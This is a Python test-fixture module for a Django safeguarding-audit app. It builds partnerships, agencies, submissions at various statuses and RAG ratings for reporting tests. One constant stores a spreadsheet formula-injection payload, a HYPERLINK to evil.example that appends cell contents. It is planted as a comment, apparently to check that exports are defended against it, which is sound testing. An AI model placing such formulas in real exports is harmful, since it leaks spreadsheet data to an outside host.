"""Worlds for the reporting tests: a partnership with localities, several
agencies whose returns are at every status, answers of each kind and every
RAG rating, and an earlier cycle to compare with."""

from dataclasses import dataclass, field
from datetime import timedelta

from django.utils import timezone

from audits.models import (
    AnswerValue,
    AuditCycle,
    Rag,
    Submission,
    SubmissionStatus,
    ThemeResponse,
)
from audits.services import submission_submit
from core.domain import Actor
from partnerships.models import Agency, Locality, Partnership, Sector
from tests.factories import (
    AgencyFactory,
    AuditCycleFactory,
    LocalityFactory,
    PartnershipFactory,
    SubmissionFactory,
    question_set_with_questions,
    theme_save,
)
from themes.models import Question, QuestionSet, Theme

HOSTILE_COMMENT = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'


def submit(submission: Submission) -> Submission:
    submission.refresh_from_db()
    return submission_submit(
        submission=submission,
        submitted_by=Actor(name="Sam Submitter", email="sam@agency.example"),
        signed_off_by_name="Alex Director",
        signed_off_by_role="Director",
        expected_version=submission.version,
    )


def themes_of(question_set: QuestionSet) -> list[Theme]:
    return list(question_set.themes.order_by("order").prefetch_related("questions"))


def questions_of(theme: Theme) -> list[Question]:
    return list(theme.questions.order_by("order"))


@dataclass
class ReportsWorld:
    partnership: Partnership
    north: Locality
    south: Locality
    question_set: QuestionSet
    cycle: AuditCycle
    previous_set: QuestionSet
    previous: AuditCycle
    agencies: dict[str, Agency] = field(default_factory=dict)
    returns: dict[str, Submission] = field(default_factory=dict)
    # (agency name, theme key, question key) → answer value, for every answer given
    answers: dict[tuple[str, str, str], str] = field(default_factory=dict)


def reports_world(slug: str = "alpha") -> ReportsWorld:
    """Cycle "s11-2026" (three themes of three questions) and an earlier one,
    "s11-2024", on an older version of the set (themes 1 and 2 only).

    This cycle:
    - Aardvark Council (North): submitted; theme 1 Green all Yes, theme 2 Amber
      with No and N/A, theme 3 Red with a comment that is a formula.
    - Badger Health (North and South): in progress; theme 1 answered in part
      and rated Amber, the rest not started.
    - Cormorant Police (no locality): not started.
    - Dormouse Trust (South): submitted with theme 3 left out, so Red by default;
      themes 1 and 2 Green.
    - Eel Youth Justice (South): returned for changes, theme 1 Green.

    The earlier cycle: Aardvark rated theme 1 Amber and theme 2 Amber,
    Dormouse theme 1 Green and theme 2 Red; Badger took part but did not
    submit (theme 1 rated Green in its draft).
    """
    partnership = PartnershipFactory(name=f"Partnership {slug.upper()}", slug=slug)
    north = LocalityFactory(partnership=partnership, name=f"{slug.title()} North")
    south = LocalityFactory(partnership=partnership, name=f"{slug.title()} South")
    now = timezone.now()
    previous_set = question_set_with_questions(partnership, themes=2, questions=2, name="S11 set")
    question_set = question_set_with_questions(partnership, themes=3, questions=3, name="S11 set", version=2)
    QuestionSet.objects.filter(pk=question_set.pk).update(previous_version=previous_set)
    previous = AuditCycleFactory(
        partnership=partnership,
        question_set=previous_set,
        title="Section 11 audit 2024",
        slug="s11-2024",
        opens_at=now - timedelta(days=700),
        closes_at=now + timedelta(days=30),
    )
    cycle = AuditCycleFactory(
        partnership=partnership,
        question_set=question_set,
        title="Section 11 audit 2026",
        slug="s11-2026",
        opens_at=now - timedelta(days=7),
        closes_at=now + timedelta(days=30),
    )
    w = ReportsWorld(partnership, north, south, question_set, cycle, previous_set, previous)

    def agency(name, sector, localities):
        w.agencies[name] = AgencyFactory(
            partnership=partnership, name=name, sector=sector, localities=localities
        )
        return w.agencies[name]

    aardvark = agency("Aardvark Council", Sector.LOCAL_AUTHORITY, [north])
    badger = agency("Badger Health", Sector.NHS, [north, south])
    cormorant = agency("Cormorant Police", Sector.POLICE, [])
    dormouse = agency("Dormouse Trust", Sector.VOLUNTARY, [south])
    eel = agency("Eel Youth Justice", Sector.YOUTH_JUSTICE, [south])

    t1, t2, t3 = themes_of(question_set)

    def save(name, submission, theme, values, rag, comments=""):
        questions = questions_of(theme)
        answers = {q.pk: v for q, v in zip(questions, values, strict=False) if v}
        theme_save(submission, theme, answers=answers, rag=rag, comments=comments)
        for q, v in zip(questions, values, strict=False):
            if v:
                w.answers[(name, theme.key, q.key)] = v

    # This cycle.
    s = w.returns["Aardvark Council"] = SubmissionFactory(cycle=cycle, agency=aardvark)
    save("Aardvark Council", s, t1, ["yes", "yes", "yes"], Rag.GREEN)
    save("Aardvark Council", s, t2, ["no", "na", "yes"], Rag.AMBER, "Training is booked; N/A: no staff.")
    save("Aardvark Council", s, t3, ["no", "no", "no"], Rag.RED, HOSTILE_COMMENT)
    w.returns["Aardvark Council"] = submit(s)

    s = w.returns["Badger Health"] = SubmissionFactory(cycle=cycle, agency=badger)
    save("Badger Health", s, t1, ["yes", "", "no"], Rag.AMBER, "-1 for now; @team to review")
    s.refresh_from_db()

    w.returns["Cormorant Police"] = SubmissionFactory(cycle=cycle, agency=cormorant)

    s = w.returns["Dormouse Trust"] = SubmissionFactory(cycle=cycle, agency=dormouse)
    save("Dormouse Trust", s, t1, ["yes", "yes", "yes"], Rag.GREEN)
    save("Dormouse Trust", s, t2, ["yes", "yes", "yes"], Rag.GREEN)
    w.returns["Dormouse Trust"] = submit(s)

    s = w.returns["Eel Youth Justice"] = SubmissionFactory(cycle=cycle, agency=eel)
    save("Eel Youth Justice", s, t1, ["yes", "yes", "yes"], Rag.GREEN)
    Submission.objects.filter(pk=s.pk).update(status=SubmissionStatus.RETURNED)
    s.refresh_from_db()

    # The earlier cycle, on the older version.
    p1, p2 = themes_of(previous_set)
    s = SubmissionFactory(cycle=previous, agency=aardvark)
    theme_save(s, p1, value="yes", rag=Rag.AMBER, comments="Partly there")
    theme_save(s, p2, value="yes", rag=Rag.AMBER, comments="Partly there")
    submit(s)
    s = SubmissionFactory(cycle=previous, agency=dormouse)
    theme_save(s, p1, value="yes", rag=Rag.GREEN)
    theme_save(s, p2, value="no", rag=Rag.RED, comments="Not yet")
    submit(s)
    s = SubmissionFactory(cycle=previous, agency=badger)
    theme_save(s, p1, value="yes", rag=Rag.GREEN)
    for submission in w.returns.values():
        submission.refresh_from_db()
    return w


ANSWER_WORDS = {AnswerValue.YES: "Yes", AnswerValue.NO: "No", AnswerValue.NA: "Not applicable"}


def many_agencies(partnership: Partnership, cycle: AuditCycle, previous: AuditCycle, n: int) -> None:
    """`n` more agencies with submitted returns in both cycles, every theme
    rated, made in bulk: for query counts, not for what they say."""
    localities = list(Locality.objects.filter(partnership=partnership))
    start = Agency.objects.filter(partnership=partnership).count()
    agencies = Agency.objects.bulk_create(
        Agency(partnership=partnership, name=f"Bulk agency {start + i:04d}", sector=Sector.OTHER)
        for i in range(n)
    )
    through = Agency.localities.through
    through.objects.bulk_create(
        through(agency_id=a.pk, locality_id=localities[i % len(localities)].pk)
        for i, a in enumerate(agencies)
    )
    rags = [Rag.RED, Rag.AMBER, Rag.GREEN]
    for c in (cycle, previous):
        themes = list(Theme.objects.filter(question_set=c.question_set))
        returns = Submission.objects.bulk_create(
            Submission(
                partnership=partnership,
                cycle=c,
                agency=a,
                question_set=c.question_set,
                reference=f"S11-BULK-{c.pk}-{a.pk}",
            )
            for a in agencies
        )
        ThemeResponse.objects.bulk_create(
            ThemeResponse(submission=s, theme=t, rag=rags[(i + j) % 3])
            for i, s in enumerate(returns)
            for j, t in enumerate(themes)
        )
        # Submitted after the responses are written: PostgreSQL refuses
        # writes to a submitted return's responses.
        Submission.objects.filter(pk__in=[s.pk for s in returns]).update(
            status=SubmissionStatus.SUBMITTED, submitted_at=timezone.now()
        )
